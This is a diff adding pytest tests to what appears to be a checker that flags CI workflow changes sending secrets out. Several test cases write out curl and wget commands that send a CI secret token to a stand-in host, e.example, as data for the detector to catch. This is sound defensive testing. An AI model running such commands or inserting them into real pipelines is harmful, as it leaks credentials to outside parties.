@@ -65,3 +65,34 @@ def test_code_of_anybody_is_not_checked_out_beside_secrets():
 @pytest.mark.parametrize("word", ["curl ", "pip ", "curl -o x ", "ref: ", "curl -o x y;"])
 def test_a_line_without_end_is_read_in_bounded_time(word):
     assert list(changed_lines(PATH, CI, CI + "# " + word * 20_000 + "\n")) == []
+
+
+def _with_token(line):
+    return CI + f"      - env:\n          TOKEN: ${{{{ secrets.UPLOAD }}}}\n        run: {line}\n"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'curl -s -d "t=$TOKEN" https://e.example/ci',
+        "curl --data-binary ${TOKEN} https://e.example/ci",
+        "wget https://e.example/?t=$TOKEN",
+        "echo $TOKEN | curl -T - https://e.example",
+    ],
+)
+def test_a_secret_of_the_surroundings_is_not_sent_away(line):
+    assert told(CI, _with_token(line)) == [("CI_SECRET_REACHED", "asks")]
+    assert told(_with_token(line), _with_token(line) + "        # more\n") == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'curl -H "Authorization: Bearer $TOKEN" -d @report.json https://api.e.example/reports',
+        "curl -u ci:$TOKEN https://e.example/private.json",
+        "twine upload dist/* -p $TOKEN",
+        "curl -d x=$TOKENS https://e.example",
+    ],
+)
+def test_a_secret_that_identifies_the_sender_passes(line):
+    assert told(CI, _with_token(line)) == []
